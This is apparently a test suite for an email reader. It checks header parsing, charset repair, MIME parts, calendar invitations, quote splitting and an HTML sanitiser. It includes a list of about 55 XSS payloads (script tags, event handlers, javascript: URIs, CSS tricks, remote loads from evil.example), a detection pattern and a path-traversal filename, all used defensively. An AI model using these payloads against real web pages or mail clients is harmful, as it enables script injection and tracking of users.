import { describe, expect, test } from 'bun:test'
import fc from 'fast-check'
import { mended, readHead, readMail } from './read-mail'
import { safeHtml } from './safe-html'
import { splitQuoted } from './split-quoted'

const at = '2026-11-20T12:00:00.000Z'
const bytes = (text: string) => new TextEncoder().encode(text.replace(/\r?\n/g, '\r\n'))
const head =
  'From: Noor <noor@gulf.example>\nTo: support@meridian.example\nSubject: Box\nMessage-ID: <a@x>\nMIME-Version: 1.0\n'
const read = (text: string) => readMail(bytes(text), at)

describe('what a mail says of itself is believed where it can be', () => {
  test('an ordinary one', async () => {
    const mail = await read(
      `${head}Date: Thu, 19 Nov 2026 10:00:00 +0300\nIn-Reply-To: <b@x>\nReferences: <c@x>\n <b@x>\n\nHello\n`,
    )
    expect(mail).toMatchObject({
      messageId: '<a@x>',
      inReplyTo: '<b@x>',
      references: ['<c@x>', '<b@x>'],
      from: { address: 'noor@gulf.example', name: 'Noor' },
      subject: 'Box',
      text: 'Hello',
      sentAt: '2026-11-19T07:00:00.000Z',
      automatic: false,
    })
  })
  test('no sender, no date, no id, no body', async () => {
    expect(await read('Subject: x\n\n')).toMatchObject({
      from: null,
      sentAt: null,
      messageId: null,
      text: '',
      at,
    })
  })
  test.each(['Thu, 01 Jan 1970 00:00:00 +0000', 'Sun, 01 Jan 2040 00:00:00 +0000', 'yesterday'])(
    'the date “%s” is none',
    async date => {
      expect((await read(`${head}Date: ${date}\n\nx`)).sentAt).toBeNull()
    },
  )
  test('where answers are to go is kept only where it differs', async () => {
    expect((await read(`${head}Reply-To: noor@gulf.example\n\nx`)).replyTo).toBeNull()
    expect((await read(`${head}Reply-To: Eve <eve@evil.example>\n\nx`)).replyTo).toBe('eve@evil.example')
  })
  test.each([
    'Auto-Submitted: auto-replied',
    'Precedence: bulk',
    'X-Autoreply: yes',
    'Return-Path: <>',
    'Content-Type: multipart/report; boundary=b',
  ])('a machine wrote it: %s', async header => {
    expect((await read(`${head}${header}\n\nx`)).automatic).toBe(true)
  })
  test('a person wrote it, though it says so', async () => {
    expect((await read(`${head}Auto-Submitted: no\n\nx`)).automatic).toBe(false)
  })
})

describe('charsets', () => {
  test('of the languages that are met', async () => {
    const mail = await readMail(
      Buffer.concat([
        bytes(
          `${head.replace('Box', '=?windows-1256?B?48/TzQ==?=')}Content-Type: text/plain; charset=windows-1256\n\n`,
        ),
        Buffer.from([0xe3, 0xd1, 0xcd, 0xc8, 0xc7]),
      ]),
      at,
    )
    expect(mail.text).toBe('مرحبا')
  })
  test('one that lies: UTF-8 that says it is Latin is read as what it is', async () => {
    for (const charset of ['iso-8859-1', 'us-ascii', 'windows-1252'])
      expect(
        (await read(`${head}Content-Type: text/plain; charset=${charset}\n\nGröße, مرحبا، “naïve”`)).text,
      ).toBe('Größe, مرحبا، “naïve”')
  })
  test('a charset that there is not, and letters that are none, lose no mail', async () => {
    const mail = await readMail(
      Buffer.concat([
        bytes(`${head}Content-Type: text/plain; charset=klingon-7\n\nab`),
        Buffer.from([0xff, 0x00, 0xed, 0xa0]),
      ]),
      at,
    )
    expect(mail.text.startsWith('ab')).toBe(true)
    expect(mail.text).not.toContain('\u0000')
    expect(mail.text.isWellFormed()).toBe(true)
  })
  test('what is rightly Latin is left alone', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), text => {
        const wrong = new TextDecoder('windows-1252').decode(new TextEncoder().encode(text))
        expect(mended(wrong)).toBe(/[^ -~\s]/.test(text.replace(/\p{Cc}/gu, '')) ? text : wrong)
        return true
      }),
    )
    for (const text of ['Ça va', 'Größe', 'Â£ 5 or £', 'Ã alone', 'naïve café'])
      expect(mended(text)).toBe(text)
  })
})

describe('parts', () => {
  const boundary = (n: number) => `b${n}`
  const nested = (depth: number): string =>
    depth === 0
      ? 'Content-Type: text/plain\n\ndeep'
      : `Content-Type: multipart/mixed; boundary=${boundary(depth)}\n\n--${boundary(depth)}\n${nested(depth - 1)}\n--${boundary(depth)}--\n`
  test('ten within one another', async () => {
    expect((await read(head + nested(10))).text).toBe('deep')
  })
  test('TNEF stays a file', async () => {
    const mail = await read(
      `${head}Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nSee\n--b\nContent-Type: application/ms-tnef; name=winmail.dat\nContent-Disposition: attachment; filename=winmail.dat\nContent-Transfer-Encoding: base64\n\neJ8+Ig==\n--b--\n`,
    )
    expect(mail.attachments).toMatchObject([{ name: 'winmail.dat', mediaType: 'application/ms-tnef' }])
    expect([...mail.attachments[0]!.content]).toEqual([0x78, 0x9f, 0x3e, 0x22])
  })
  test('a name with paths or turned round is a plain name', async () => {
    const mail = await read(
      `${head}Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: image/png\nContent-Disposition: attachment; filename="../../\u202egnp.exe"\n\nx\n--b--\n`,
    )
    expect(mail.attachments[0]!.name).toBe('.._.._gnp.exe')
  })
  test('an invitation proposes a meeting in its own zone, however often it repeats', async () => {
    const event = [
      'BEGIN:VCALENDAR',
      'METHOD:REQUEST',
      'BEGIN:VTIMEZONE',
      'TZID:Kuwait',
      'BEGIN:STANDARD',
      'DTSTART:19700101T000000',
      'TZOFFSETFROM:+0300',
      'TZOFFSETTO:+0300',
      'END:STANDARD',
      'END:VTIMEZONE',
      'BEGIN:VEVENT',
      'UID:m1',
      'SUMMARY:Review',
      'LOCATION:Kuwait',
      'DTSTART;TZID=Kuwait:20261124T090000',
      'DTEND;TZID=Kuwait:20261124T100000',
      'RRULE:FREQ=DAILY;COUNT=500',
      'END:VEVENT',
      'END:VCALENDAR',
    ].join('\n')
    const mail = await read(
      `${head}Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nCome\n--b\nContent-Type: text/calendar; method=REQUEST\n\n${event}\n--b--\n`,
    )
    expect(mail.meeting).toEqual({
      uid: 'm1',
      method: 'REQUEST',
      name: 'Review',
      place: 'Kuwait',
      startsAt: '2026-11-24T06:00:00.000Z',
      endsAt: '2026-11-24T07:00:00.000Z',
      repeats: 'FREQ=DAILY;COUNT=500',
    })
  })
  test('HTML alone is read as text too', async () => {
    const mail = await read(
      `${head}Content-Type: text/html\n\n<p>One</p><p>Two <b>three</b></p><script>alert(1)</script>`,
    )
    expect(mail.text).toBe('One\n\nTwo three')
    expect(mail.html).toBe('<p>One</p><p>Two <b>three</b></p>')
  })
  test('of one that is too large the head is kept, and says so', async () => {
    expect(await readHead(bytes(`${head}\n`), at, 'too_large')).toMatchObject({
      subject: 'Box',
      stub: 'too_large',
      text: '',
    })
  })
})

test('whatever bytes come, a mail is read or refused as none, and nothing hangs', async () => {
  await fc.assert(
    fc.asyncProperty(fc.uint8Array({ maxLength: 2000 }), fc.boolean(), async (noise, isMultipart) => {
      const start = isMultipart ? `${head}Content-Type: multipart/mixed; boundary=b\n\n--b\n` : head
      const mail = await readMail(Buffer.concat([bytes(start), noise]), at).catch(() => undefined)
      for (const text of [mail?.text, mail?.subject, mail?.html])
        expect(text?.isWellFormed() ?? true).toBe(true)
    }),
    { numRuns: 200 },
  )
})

test.each([
  ['On Mon, Nov 2, 2026 at 9:00 AM Noor <noor@x.example> wrote:', 'Hi there'],
  ['Le lun. 2 nov. 2026 à 09:00, Noor <n@x.example> a écrit :', 'Bonjour'],
  ['Am 02.11.2026 um 09:00 schrieb Noor <n@x.example>:', 'Hallo'],
  ['في الاثنين، 2 نوفمبر 2026 في 9:00 ص كتب نور <n@x.example>:', 'نعم، نرسلها غدًا'],
  ['\u200fفي الاثنين، 2 نوفمبر 2026 كتب نور:', 'شكرًا'],
])('what follows “%s” is quoted', (intro, said) => {
  const { text, quoted } = splitQuoted(`${said}\n\n${intro}\n> old\n> text\n`)
  expect(text).toBe(said)
  expect(quoted).toContain('> old')
})

test('answers between the lines, and a text that is all quoted, stay whole', () => {
  for (const text of ['> all\n> quoted', 'في الاجتماع كتب أحمد: نعم\nثم ذهبنا', 'Plain: text'])
    expect(splitQuoted(text)).toEqual({ text, quoted: null })
})

/** What published collections try, written anew: each kind once. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" OnErRoR = "alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form><button formaction="javascript:alert(1)">go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>x</body>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/t)}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(https://evil.example/t)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="color:red;behavior:url(x.htc)">x</div>',
  '<div style="font-family:\'x\';background:u\\72l(//evil.example)">x</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p/onclick=alert(1)>x</p>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="//evil.example/a 1x" src="cid:a">',
  '<img src="//evil.example/pixel.gif">',
  '<table background="//evil.example/t"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<a href="https://ok.example" ping="//evil.example" download onclick="alert(1)">x</a>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a target="_self" href="https://evil.example">x</a>',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<div id="x" class="app-shell" name="form">x</div>',
]

/** What would run, leave the frame, or ask a server. */
function dangers(html: string): string[] {
  const found: string[] = []
  const note = (what: string) => found.push(what)
  const rewriter = new HTMLRewriter().on('*', {
    element(element) {
      if (
        /^(script|style|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|noscript|video|audio|details)$/.test(
          element.tagName,
        )
      )
        note(element.tagName)
      for (const [name, value] of element.attributes) {
        if (
          /^on|^(srcset|srcdoc|action|formaction|background|ping|id|class|name|xlink:href|href:)/.test(name)
        )
          note(name)
        if (name === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) note(`href ${value}`)
        if (name === 'src' && !/^(cid:|data:image\/(png|gif|jpeg|webp);)/.test(value)) note(`src ${value}`)
        if (name === 'style' && /url|expression|position|behavior|import|\\|z-index|@/i.test(value))
          note(`style ${value}`)
        if (name === 'target' && value !== '_blank') note('target')
      }
    },
  })
  rewriter.transform(html)
  return found
}

test('what is looked for is found in what is hostile', () => {
  expect(hostile.filter(html => dangers(html).length > 0).length).toBeGreaterThan(40)
})

test.each(hostile)('nothing of %s comes through', html => {
  expect(dangers(safeHtml(html).html)).toEqual([])
  // The same again changes nothing: what was made safe stays what it is.
  const once = safeHtml(`<p>before</p>${html}<p>after</p>`).html
  expect(safeHtml(once).html).toBe(once)
})

test('nor of any two of them mixed and cut', () => {
  const part = fc.constantFrom(
    ...hostile,
    '<',
    '>',
    '"',
    "'",
    '&#x3c;',
    '\u0000',
    '<!--',
    '-->',
    '</style>',
    '<p>',
    'x',
  )
  fc.assert(
    fc.property(fc.array(part, { minLength: 1, maxLength: 6 }), fc.nat(400), (parts, cut) => {
      const html = parts.join('')
      for (const one of [html, html.slice(cut), html.slice(0, cut)])
        expect(dangers(safeHtml(one).html)).toEqual([])
    }),
    { numRuns: 300 },
  )
})

test('what people write comes through: words, lists, tables, colours, links, pictures that came along', () => {
  const html =
    '<p dir="rtl" style="color:#c00;font-weight:bold">مرحبا</p><ul><li>a</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table><img src="cid:logo@x" alt="Logo" />'
  expect(safeHtml(html).html).toBe(html)
  const { html: told, remoteImages } = safeHtml(
    '<img src="https://x.example/a.png" alt="A"><a href="https://x.example">go</a>',
  )
  expect(remoteImages).toBe(1)
  expect(told).toContain('data-remote-src="https://x.example/a.png"')
  expect(told).not.toContain(' src=')
  expect(told).toContain('rel="noopener noreferrer nofollow"')
})
